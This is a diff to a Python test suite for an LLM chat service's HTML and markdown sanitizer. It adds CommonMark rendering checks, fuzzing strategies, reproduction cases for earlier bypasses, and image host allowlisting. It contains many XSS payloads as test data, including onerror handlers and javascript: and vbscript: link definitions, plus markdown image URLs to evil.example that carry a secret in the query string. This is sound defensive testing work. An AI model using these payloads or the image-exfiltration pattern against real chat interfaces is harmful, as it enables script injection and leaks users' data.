@@ -5,7 +5,9 @@ nothing executable, while plain text, markdown and code pass unchanged. What cou
 is decided here by an independent checker (`executable`): Python's `html.parser` over the output
 plus the markdown link targets a CommonMark renderer would turn into `href`/`src`, skipping only
 what a CommonMark renderer shows as code (fenced blocks at the start of a line, matched backtick
-runs in a paragraph that is not raw HTML).
+runs in a paragraph that is not raw HTML). The property tests check what the widget would run
+exactly: the HTML markdown-it-py's CommonMark renderer (raw HTML on, every link kept) makes of the
+output, parsed by the same `html.parser` finder (`rendered_problems`, `rendered_images`).
 """
 
 from __future__ import annotations
@@ -19,6 +21,7 @@ from typing import Any
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from sqlalchemy import select
 
 from llm_service.db.models import ChatMessage
@@ -205,6 +208,39 @@ def executable(text: str) -> list[str]:
     return problems
 
 
+# The most trusting CommonMark renderer: raw HTML on, and every link destination kept (markdown-it's
+# own check of `javascript:` is off), so whatever `sanitize` leaves is in the HTML.
+RENDERER = MarkdownIt("commonmark", {"html": True})
+RENDERER.validateLink = lambda url: True  # type: ignore[method-assign]
+
+
+def rendered_problems(text: str) -> list[str]:
+    """Everything executable in the HTML a CommonMark renderer makes of `text`, found by
+    html.parser (`_Finder`): what the widget would run."""
+    finder = _Finder()
+    finder.feed(RENDERER.render(text))
+    finder.close()
+    return finder.problems
+
+
+class _Images(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.sources: list[str | None] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag == "img":
+            self.sources.append(dict(attrs).get("src"))
+
+
+def rendered_images(text: str) -> list[str | None]:
+    """The `src` of every image the renderer makes of `text`."""
+    finder = _Images()
+    finder.feed(RENDERER.render(text))
+    finder.close()
+    return finder.sources
+
+
 # The checker itself must see what it is meant to see, or every test below proves nothing.
 @pytest.mark.parametrize(
     "text",
@@ -351,31 +387,8 @@ XSS_PAYLOADS = [
     "<div>\n`<img src=x onerror=alert(1)>`",
 ]
 
-# Payloads that get through today. Each is a bug in `sanitize`, reported to the main engineer:
-# a strict xfail, so the mark has to go when the bug is fixed.
-REFERENCE_LINKS = (
-    "sanitize bug: markdown reference definitions (`[r]: javascript:...`) are not checked"
-)
-CODE_SPANS = (
-    "sanitize bug: its code detection is not CommonMark's, so markup it leaves alone as code is "
-    "raw HTML to a renderer (backtick runs of other lengths, ``` in mid-line, HTML blocks)"
-)
-KNOWN_BYPASSES: dict[str, str] = {
-    "[click][r]\n\n[r]: javascript:alert(1)": REFERENCE_LINKS,
-    "``<img src=x onerror=alert(1)>`": CODE_SPANS,
-    "x ```<img src=x onerror=alert(1)>": CODE_SPANS,
-    "x ```\n<img src=x onerror=alert(1)>\n```": CODE_SPANS,
-    "<div>\n`<img src=x onerror=alert(1)>`": CODE_SPANS,
-}
-
-
 def _corpus() -> list[Any]:
-    params: list[Any] = []
-    for payload in XSS_PAYLOADS:
-        reason = KNOWN_BYPASSES.get(payload)
-        marks = [pytest.mark.xfail(strict=True, reason=reason)] if reason else []
-        params.append(pytest.param(payload, marks=marks, id=repr(payload)[1:-1][:60]))
-    return params
+    return [pytest.param(payload, id=repr(payload)[1:-1][:60]) for payload in XSS_PAYLOADS]
 
 
 def test_corpus_holds_at_least_30_distinct_executable_payloads() -> None:
@@ -389,6 +402,7 @@ def test_corpus_holds_at_least_30_distinct_executable_payloads() -> None:
 def test_payload_leaves_nothing_executable(payload: str) -> None:
     cleaned = sanitize(payload)
     assert executable(cleaned) == [], cleaned
+    assert rendered_problems(cleaned) == [], cleaned
     assert sanitize(cleaned) == cleaned
 
 
@@ -406,7 +420,7 @@ UNCHANGED = [
     "# Heading\n\n## Sub-heading\n\nSome **bold**, *italic*, ~~struck~~ text.",
     "- one\n- two\n  - nested\n1. first\n2. second",
     "> a quote\n> on two lines",
-    "See [the docs](https://example.com/docs?x=1&y=2#frag) and ![logo](https://example.com/l.png).",
+    "See [the docs](https://example.com/docs?x=1&y=2#frag) and [the logo](https://example.com/l.png).",
     '[titled](https://example.com "A title")',
     "| a | b |\n|---|---|\n| 1 | 2 |\n| <3 | > |",
     "Use `<div>` for blocks and `<script>` for scripts.",
@@ -427,27 +441,16 @@ UNCHANGED = [
 ]
 
 
-# Markdown that is changed today: bugs in `sanitize`, reported (strict xfail, as above).
-KNOWN_CHANGED = {
-    "Inline ``code with ` backtick <b>`` here": (
-        "sanitize bug: a code span of two backticks is not seen as code (`</b>` is appended)"
-    ),
-    "Mail <someone@example.com> or see <https://example.com>": (
-        "sanitize bug: markdown autolinks are removed as unknown tags"
-    ),
-}
+UNCHANGED += [
+    "Inline ``code with ` backtick <b>`` here",
+    "Mail <someone@example.com> or see <https://example.com>",
+    "A [reference][docs] and a [shortcut].\n\n[docs]: https://example.com/docs\n[shortcut]: /a",
+    "    indented <code> stays\n\n> quoted `<tag>` too",
+    "Line one<br>line two, <b>bold</b> and <a href=\"https://example.com\">a link</a>",
+]
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        *(pytest.param(t, id=repr(t)[1:-1][:50]) for t in UNCHANGED),
-        *(
-            pytest.param(t, id=repr(t)[1:-1][:50], marks=pytest.mark.xfail(strict=True, reason=r))
-            for t, r in KNOWN_CHANGED.items()
-        ),
-    ],
-)
+@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in UNCHANGED])
 def test_plain_text_markdown_and_code_pass_unchanged(text: str) -> None:
     assert sanitize(text) == text
 
@@ -463,6 +466,8 @@ MARKUP_FRAGMENTS = [
     "\n", "\n\n", " ", "\t", "\x01", "[x](", "![i](", ")", "(", "]", "<a href=", "<svg",
     "<math>", "<style>", "<iframe", "<b>", "</b>", "<div>", "<!--", "-->", "<![CDATA[",
     "<p title=\"", "\\", "# ", "- ", "a < b", "https://x.example/", "mailto:a@b",
+    "![a](", "![", "<img src=https://evil.example/x.png>", "https://evil.example/x.png", "> ",
+    "    ", "1. ", "<div>",
 ]
 CODE_FRAGMENTS = ["`", "``", "```", "~~~", "\n```\n", "[r]: "]
 
@@ -474,6 +479,15 @@ def text_from(fragments: list[str], alphabet: str) -> st.SearchStrategy[str]:
 
 markup_text = text_from(MARKUP_FRAGMENTS, "<>&\"'=:/()[]! \nabcsx")
 rich_text = text_from(MARKUP_FRAGMENTS + CODE_FRAGMENTS, "<>&\"'=:/`()[]! \nabcsx")
+# Block structure: containers, fences, HTML blocks and definitions in every arrangement.
+BLOCK_FRAGMENTS = [
+    "\n> ", "\n- ", "\n    ", "\n```\n", "```", "~~~", "<div>\n", "</div>", "\n\n", "\n",
+    "[r]: ", "[r]:\n", "![r]", "[r]", "][r]", "](", ")", "javascript:alert(1)", "`", "``", "\t",
+    "<img src=x onerror=alert(1)>", "1. ", "<!--", "-->", "<script>", "</script>", "<pre>",
+    "\\", "&#106;", "'t'", "https://evil.example/x.png", "<javascript:x>", "x", "===", "\r\n",
+    "\x00",
+]
+block_text = st.lists(st.sampled_from(BLOCK_FRAGMENTS), max_size=30).map("".join)
 
 any_text = st.text(max_size=200)
 
@@ -483,7 +497,7 @@ PROPERTY_SETTINGS = settings(
 
 
 @PROPERTY_SETTINGS
-@given(st.one_of(any_text, rich_text))
+@given(st.one_of(any_text, rich_text, block_text))
 def test_sanitizing_is_idempotent(text: str) -> None:
     once = sanitize(text)
     assert sanitize(once) == once
@@ -492,33 +506,40 @@ def test_sanitizing_is_idempotent(text: str) -> None:
 @PROPERTY_SETTINGS
 @given(any_text)
 def test_arbitrary_text_sanitizes_to_nothing_executable(text: str) -> None:
-    assert executable(sanitize(text)) == []
+    assert rendered_problems(sanitize(text)) == []
 
 
 @PROPERTY_SETTINGS
 @given(markup_text)
 def test_markup_rich_text_sanitizes_to_nothing_executable(text: str) -> None:
-    assert executable(sanitize(text)) == []
+    assert rendered_problems(sanitize(text)) == []
 
 
-# With markdown code and reference definitions in the mix, hypothesis finds the bypasses of
-# KNOWN_BYPASSES within a few hundred examples; the explicit example makes that certain.
-@pytest.mark.xfail(strict=True, reason=f"{CODE_SPANS}; {REFERENCE_LINKS}")
+# Markdown code and reference definitions in the mix: the regex sanitizer this replaced let
+# these through (issue 10); the explicit examples keep the shapes that broke it.
 @PROPERTY_SETTINGS
 @example("``<script>`")
-@given(rich_text)
+@example("[x][1]\n\n[1]: javascript:alert(1)")
+@example("x ```<img src=x onerror=alert(1)>")
+@given(st.one_of(rich_text, block_text))
 def test_markup_and_markdown_code_sanitize_to_nothing_executable(text: str) -> None:
-    assert executable(sanitize(text)) == []
+    assert rendered_problems(sanitize(text)) == []
 
 
 @PROPERTY_SETTINGS
-@given(st.text(alphabet=st.characters(exclude_characters="<:&`"), max_size=200))
+@given(st.one_of(any_text, rich_text, block_text))
+def test_no_image_is_left_from_a_host_not_allowed(text: str) -> None:
+    assert rendered_images(sanitize(text)) == []
+
+
+@PROPERTY_SETTINGS
+@given(st.text(alphabet=st.characters(exclude_characters="<[\x00"), max_size=200))
 def test_text_without_markup_characters_is_untouched(text: str) -> None:
     assert sanitize(text) == text
 
 
 @PROPERTY_SETTINGS
-@given(markup_text, st.lists(st.integers(min_value=0, max_value=300), max_size=8))
+@given(st.one_of(markup_text, rich_text, block_text), st.lists(st.integers(0, 300), max_size=8))
 def test_a_reply_sanitized_as_it_streams_in_is_safe_at_every_moment(
     text: str, cuts: list[int]
 ) -> None:
@@ -528,9 +549,145 @@ def test_a_reply_sanitized_as_it_streams_in_is_safe_at_every_moment(
     shown = ""
     for piece in pieces:
         shown += stream.feed(piece)
-        assert executable(shown) == [], (pieces, shown)
+        assert rendered_problems(shown) == [], (pieces, shown)
+        assert rendered_images(shown) == [], (pieces, shown)
     shown += stream.finish()
-    assert executable(shown) == [], (pieces, shown)
+    assert rendered_problems(shown) == [], (pieces, shown)
+    final = stream.text()
+    assert rendered_problems(final) == [] and sanitize(final) == final, (pieces, final)
+
+
+# --------------------------------------------------------------------------------------------
+# Issue 10: CommonMark's own idea of code, reference definitions, images
+# --------------------------------------------------------------------------------------------
+
+REPRODUCTIONS = [
+    "hi ~~~<img src=x onerror=alert(1)>~~~",  # tildes fence only at a line start
+    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
+    "x ```<img src=x onerror=alert(1)>`` y",  # unequal backtick runs
+    "    ```\n<img src=x onerror=alert(1)>\n```",  # an indented "fence" is indented code
+    "<div>`</div><img src=x onerror=alert(1)>`",  # no code spans inside an HTML block
+    "[x][1]\n\n[1]: javascript:alert(1)",  # reference definitions
+    "[x][1]\n\n[1]:\n  <javascript:alert(1)> 'title'",
+    "> [x][1]\n>\n> [1]: vbscript:msgbox(1)",
+    "- item\n\n  <img src=x onerror=alert(1)>",
+    "> <div>\n> <img src=x onerror=alert(1)>",
+    "x <script/xss>alert(1)</script>",
+    "[click](\x01javascript:alert(1))",
+    "\n> 1. <!--\n> ",  # markdown-it-py 4.3 itself fails on this one: no 500 for it
+]
+
+
+@pytest.mark.parametrize("text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS])
+def test_issue_10_reproduction_is_made_safe(text: str) -> None:
+    cleaned = sanitize(text)
+    assert rendered_problems(cleaned) == [], cleaned
+    assert executable(cleaned) == [], cleaned
+    assert sanitize(cleaned) == cleaned
+
+
+@pytest.mark.parametrize(
+    "text", [pytest.param(t, id=repr(t)[1:-1][:50]) for t in REPRODUCTIONS[:10]]
+)
+def test_issue_10_reproduction_is_live_as_written(text: str) -> None:
+    assert rendered_problems(text) or executable(text)
+
+
+def test_an_unsafe_reference_definition_points_nowhere() -> None:
+    assert sanitize("[x][1] and [y]\n\n[1]: javascript:alert(1)\n[y]: <data:text/html,x> 't'") == (
+        "[x][1] and [y]\n\n[1]: #\n[y]: # 't'"
+    )
+
+
+def test_raw_html_in_a_container_keeps_the_container() -> None:
+    assert sanitize("> <div>\n> <img src=x onerror=alert(1)>\n> hi\n") == (
+        '> <div>\n> <a href="x">image</a>\n> hi\n> </div>\n'
+    )
+    assert sanitize("- a\n\n\t<img src=x onerror=alert(1)>") == '- a\n\n\t<a href="x">image</a>'
+
+
+def test_markdown_code_is_never_touched() -> None:
+    text = (
+        "``<img src=x onerror=alert(1)>`` and `[x](javascript:alert(1))`\n\n"
+        "```\n<script>alert(1)</script>\n```\n\n    <iframe src=javascript:alert(1)>\n"
+    )
+    assert sanitize(text) == text
+
+
+def test_an_autolink_with_an_unsafe_scheme_is_shown_as_text() -> None:
+    assert sanitize("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
+    assert sanitize("<https://example.com/a>") == "<https://example.com/a>"
+
+
+def test_nul_is_removed_and_text_is_kept() -> None:
+    assert sanitize("a\x00b") == "ab"
+    assert sanitize("<b>a\x00b</b>") == "<b>ab</b>"
+
+
+def test_text_that_never_settles_is_shown_inert() -> None:
+    from llm_service.security import sanitize as module
+
+    assert module._inert("<b>[x](y)</b>") == r"&lt;b\>\[x\]\(y\)&lt;\/b\>"
+    assert sanitize(module._inert("<img src=x onerror=alert(1)>")) == module._inert(
+        "<img src=x onerror=alert(1)>"
+    )
+
+
+# Images: shown only from LLM_ALLOWED_IMAGE_HOSTS (issue 10, item 14).
+
+def test_a_markdown_image_becomes_a_link() -> None:
+    assert sanitize("![alt](https://evil.example/x.png?d=secret)") == (
+        "[alt](https://evil.example/x.png?d=secret)"
+    )
+    assert sanitize("![](https://evil.example/x.png)") == "[image](https://evil.example/x.png)"
+    assert sanitize("![chart][c]\n\n[c]: https://evil.example/c.png") == (
+        "[chart][c]\n\n[c]: https://evil.example/c.png"
+    )
+
+
+def test_an_html_image_becomes_a_link() -> None:
+    assert sanitize('<img src="https://evil.example/x.png?d=secret" alt="a chart">') == (
+        '<a href="https://evil.example/x.png?d=secret">a chart</a>'
+    )
+    assert sanitize("<p>\n<img src=https://evil.example/x.png>\n</p>") == (
+        '<p>\n<a href="https://evil.example/x.png">image</a>\n</p>'
+    )
+
+
+def test_an_image_from_an_allowed_host_stays() -> None:
+    hosts = ["img.example"]
+    for text in ("![alt](https://img.example/x.png)", "![alt](HTTPS://IMG.EXAMPLE:8443/x.png)",
+                 '<img src="https://img.example/x.png" alt="a">',
+                 "A ![b][c]\n\n[c]: https://img.example/c"):
+        assert sanitize(text, image_hosts=hosts) == text
+        assert len(rendered_images(text)) == 1
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://img.example@evil.example/x.png",
+        "https://evil.example\\@img.example/x.png",
+        "//img.example/x.png",
+        "http://img.example.evil.example/x.png",
+        "https://evil.example/img.example/x.png",
+        "ftp://img.example/x.png",
+        "/relative/x.png",
+    ],
+)
+def test_an_image_is_shown_only_when_its_host_is_certainly_allowed(url: str) -> None:
+    for text in (f"![a]({url})", f'<img src="{url}">'):
+        cleaned = sanitize(text, image_hosts=["img.example"])
+        assert rendered_images(cleaned) == [], cleaned
+
+
+def test_allowed_image_hosts_is_a_comma_separated_setting() -> None:
+    from llm_service.settings import Settings
+
+    assert Settings(LLM_ALLOWED_IMAGE_HOSTS=" img.example, cdn.example ,").allowed_image_hosts == [
+        "img.example", "cdn.example"
+    ]
+    assert Settings().allowed_image_hosts == []
 
 
 # --------------------------------------------------------------------------------------------
@@ -572,7 +729,7 @@ async def test_chat_sends_as_typed_and_stores_and_answers_sanitized(
         ("assistant", sanitize(echo)),
     ]
     user_row = stored["history"][0]["content"]
-    assert user_row == "<img src=\"x\">Hello, is a < b? "
+    assert user_row == "<a href=\"x\">image</a>Hello, is a < b? "
     assert executable(user_row) == []
 
     async with api.runtime.sessions() as session:
@@ -632,3 +789,62 @@ async def test_streamed_reply_is_sanitized_piece_by_piece_and_stored_sanitized(
     assert events[-1][1]["response"] == sanitize(echo)
     history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
     assert [m["content"] for m in history] == [sanitize(TYPED), sanitize(echo)]
+
+
+IMAGES = "see ![chart](https://img.example/c.png) and ![x](https://evil.example/x.png?d=secret)"
+
+
+async def test_chat_shows_images_only_from_allowed_hosts(
+    make_api: Any, fake_vendor: FakeVendor
+) -> None:
+    async with make_api(LLM_ALLOWED_IMAGE_HOSTS="img.example") as api:
+        auth = api.auth(1)
+        await api.client.post(
+            "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
+        )
+        expected = (
+            "see ![chart](https://img.example/c.png) and [x](https://evil.example/x.png?d=secret)"
+        )
+        response = await api.client.post(
+            "/llm/chat/openai", json={"message": IMAGES}, headers=auth
+        )
+        assert response.status_code == 200, response.text
+        assert response.json()["response"].endswith(": " + expected)
+        streamed = await api.client.post(
+            "/llm/chat/openai/stream", json={"message": IMAGES}, headers=auth
+        )
+        events = stream_events(streamed.text)
+        deltas = "".join(data["text"] for name, data in events if name == "delta")
+        assert events[-1][0] == "done" and events[-1][1]["response"] == deltas
+        assert deltas.endswith(": " + expected)
+        history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
+        assert [m["content"] for m in history][::2] == [expected, expected]
+
+
+async def test_a_vendor_reply_with_nul_is_stored_and_returned_without_it(
+    api: Api, fake_vendor: FakeVendor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from tests.fakes import vendor
+
+    reply = property(lambda chat: "be\x00fore <b>x</b>\x00 after")
+    monkeypatch.setattr(vendor.Chat, "reply", reply)
+    auth = api.auth(1)
+    await api.client.post(
+        "/llm/config/openai", json={"apiKey": "sk-sanitize-test-key-1234"}, headers=auth
+    )
+    response = await api.client.post("/llm/chat/openai", json={"message": "hi"}, headers=auth)
+    assert response.status_code == 200, response.text
+    assert response.json()["response"] == "before <b>x</b> after"
+    streamed = await api.client.post(
+        "/llm/chat/openai/stream", json={"message": "hi"}, headers=auth
+    )
+    assert streamed.status_code == 200, streamed.text
+    events = stream_events(streamed.text)
+    assert events[-1] == ("done", {**events[-1][1], "response": "before <b>x</b> after"})
+    assert "".join(data["text"] for name, data in events if name == "delta") == (
+        "before <b>x</b> after"
+    )
+    history = (await api.client.get("/llm/history/openai", headers=auth)).json()["history"]
+    assert [m["content"] for m in history if m["role"] == "assistant"] == [
+        "before <b>x</b> after"
+    ] * 2
